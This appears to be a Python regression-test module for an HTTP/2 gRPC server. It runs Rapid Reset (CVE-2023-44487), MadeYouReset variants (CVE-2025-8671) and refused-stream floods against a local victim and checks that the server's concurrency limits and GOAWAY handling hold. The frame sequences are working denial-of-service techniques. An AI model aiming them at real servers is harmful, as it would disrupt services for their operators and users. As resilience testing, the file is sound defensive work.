# SPDX-License-Identifier: Apache-2.0
"""Streams that are opened to be reset."""
import time

import http2
from attack import Attack
from victims import expect, wait_until

LIMIT = 100  # of a connection; the well-behaved one has a call too
CHAT = '/sluice.hostile.Victim/Chat'


class RapidReset(Attack):
    """Requests that are cancelled at once (CVE-2023-44487)"""
    options = ('--max-concurrent-streams', LIMIT)
    streams = 30_000
    per_send = 1000
    _prepared = None

    def one(self, stream):
        return (http2.headers(stream, http2.request_block()) + http2.data(stream, http2.wish(wait=True), end=True)
                + http2.reset(stream))

    def prepared(self):
        if self._prepared is None:
            step = 2 * self.per_send
            self._prepared = [b''.join(self.one(stream) for stream in range(first, first + step, 2))
                              for first in range(1, 2 * self.streams, step)]
        return self._prepared

    def run(self, at):
        with at.connect() as connection:
            for piece in self.prepared():
                if not connection.send(piece, reading=True):
                    break
            connection.take_in(lambda: connection.closed or connection.goaway, 3)
            expect(connection.closed or connection.goaway, f'still open after {self.streams} resets')
        _, _, most, _ = at.figures()
        at.note('most handlers at once', most)
        expect(most <= LIMIT + 1, f'{most} handlers ran at once, the limit is {LIMIT}')
        expect(wait_until(lambda: at.figures()[1] == 0), 'handlers of calls that were reset run on')


class ResetInAnotherTurn(RapidReset):
    """Requests that are cancelled after their handlers have started"""

    def run(self, at):
        pairs = 0
        with at.connect() as connection:
            connection.take_in(lambda: connection.seen)
            for first in range(1, 2 * self.streams, 2 * LIMIT):
                streams = range(first, first + 2 * LIMIT, 2)
                opened = b''.join(http2.headers(stream, http2.request_block())
                                  + http2.data(stream, http2.wish(wait=True), end=True) for stream in streams)
                # A PING's acknowledgement says that the requests have been taken.
                acknowledged = len(connection.seen)
                if not connection.send(opened + http2.ping(), reading=True):
                    break
                connection.take_in(lambda: any(seen[:2] == (http2.PING, http2.ACK)
                                               for seen in connection.seen[acknowledged:]) or connection.goaway, 2)
                if connection.goaway or not connection.send(b''.join(map(http2.reset, streams)), reading=True):
                    break
                pairs += LIMIT
            expect(connection.closed or connection.goaway, f'still open after {pairs} resets')
        _, _, most, _ = at.figures()
        expect(most <= LIMIT + 1, f'{most} handlers ran at once, the limit is {LIMIT}')
        expect(wait_until(lambda: at.figures()[1] == 0), 'handlers of calls that were reset run on')


class MadeYouReset(Attack):
    """Requests that make the victim reset them, one at a time (CVE-2025-8671): an overflowing WINDOW_UPDATE"""
    burst, per_second = 1000, 33  # the defaults of peer_limits

    def provoke(self, stream):
        return http2.headers(stream, http2.request_block(CHAT)) + http2.window_update(stream, 0x7fffffff)

    def run(self, at):
        with at.connect() as connection:
            began, number = time.monotonic(), 0
            while True:
                allowed = self.burst + self.per_second * (time.monotonic() - began) + 20
                expect(number < allowed, f'no GOAWAY after {number} streams')
                stream = 2 * number + 1
                connection.send(self.provoke(stream), reading=True)
                connection.take_in(lambda: connection.answer(stream).error is not None or connection.goaway
                                   or connection.answer(stream).ended, 2)
                if connection.closed or connection.goaway:
                    break
                found = connection.answer(stream)
                expect(found.error is not None or found.ended, f'stream {stream} is neither reset nor answered')
                del connection.answers[stream]
                number += 1
            at.note('streams', number + 1)


class MadeYouResetByZeroUpdate(MadeYouReset):
    """The same by a WINDOW_UPDATE of zero"""

    def provoke(self, stream):
        return http2.headers(stream, http2.request_block(CHAT)) + http2.window_update(stream, 0)


class MadeYouResetHalfClosed(MadeYouReset):
    """The same by DATA behind END_STREAM"""

    def provoke(self, stream):
        return (http2.headers(stream, http2.request_block())
                + http2.data(stream, http2.wish(wait=True), end=True) + http2.data(stream, b'more'))


class MadeYouResetByLength(MadeYouReset):
    """The same by a content-length that is wrong"""

    def provoke(self, stream):
        return (http2.headers(stream, http2.request_block(CHAT, content_length='3'))
                + http2.data(stream, http2.wish(b'12345')))


class MadeYouResetByPriority(MadeYouReset):
    """The same by a PRIORITY frame of a wrong length"""

    def provoke(self, stream):
        return http2.headers(stream, http2.request_block(CHAT)) + http2.frame(http2.PRIORITY, 0, stream, b'1234')


class MadeYouResetBySelf(MadeYouReset):
    """The same by a stream that depends on itself"""

    def provoke(self, stream):
        own = stream.to_bytes(4, 'big') + b'\x10'
        return (http2.headers(stream, http2.request_block(CHAT)) + http2.frame(http2.PRIORITY, 0, stream, own)
                + http2.window_update(stream, 0))


class MadeYouResetByHeaders(MadeYouReset):
    """The same by malformed header fields"""

    def provoke(self, stream):
        return http2.headers(stream, http2.request_block(connection='close'))


class RefusedStreams(Attack):
    """More requests than are allowed, again and again"""
    options = ('--max-concurrent-streams', 10)

    def run(self, at):
        waiting = http2.data(0, http2.wish(wait=True), end=True)
        with at.connect() as connection:
            connection.take_in(lambda: connection.seen)
            for first in range(1, 20_000, 200):
                piece = b''.join(http2.headers(stream, http2.request_block())
                                 + waiting[:5] + stream.to_bytes(4, 'big') + waiting[9:]
                                 for stream in range(first, first + 200, 2))
                if not connection.send(piece, reading=True) or connection.goaway:
                    break
            connection.take_in(lambda: connection.closed or connection.goaway, 2)
            expect(connection.closed or connection.goaway, 'still open after 10,000 requests, 10 being allowed')
        _, _, most, _ = at.figures()
        expect(most <= 10 + 1, f'{most} handlers ran at once, the limit is 10')
